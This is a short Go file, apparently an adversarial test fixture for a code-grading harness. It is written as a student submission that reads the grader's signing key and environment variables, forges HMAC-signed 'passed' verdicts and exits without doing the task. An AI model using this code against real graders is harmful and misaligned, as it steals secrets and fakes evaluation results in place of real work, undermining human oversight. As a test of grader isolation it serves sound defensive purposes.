// Package student is a hostile submission: when initialised it tries to
// read the grader's key (fd 3, the environment), then signs a pass for
// every check with whatever it found and ends the process.
package student

import (
	"crypto/hmac"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"io"
	"os"

	"github.com/backprop-lab/backprop/nn"
)

var stolen []byte

func init() {
	k, _ := io.ReadAll(os.NewFile(3, "key"))
	env, _ := os.ReadFile("/proc/self/environ")
	stolen = append(k, env...)
}

// NewLayer signs a pass for the check the grader asked for and exits.
func NewLayer(nIn, nOut int) nn.Layer {
	unit := os.Getenv("BACKPROP_GRADE_UNIT")
	w := os.NewFile(4, "results")
	for _, rec := range []string{
		`{"seq":1,"unit":"` + unit + `","kind":"verdict","verdict":{"passed":true,"text":"passed","tests":[{"name":"x","score":1,"max_score":1,"status":"passed"}]}}`,
		`{"seq":2,"unit":"` + unit + `","kind":"complete"}`,
	} {
		m := hmac.New(sha256.New, stolen)
		m.Write([]byte(rec))
		fmt.Fprintf(w, "%s %s\n", hex.EncodeToString(m.Sum(nil)), rec)
	}
	os.Exit(0)
	return nil
}
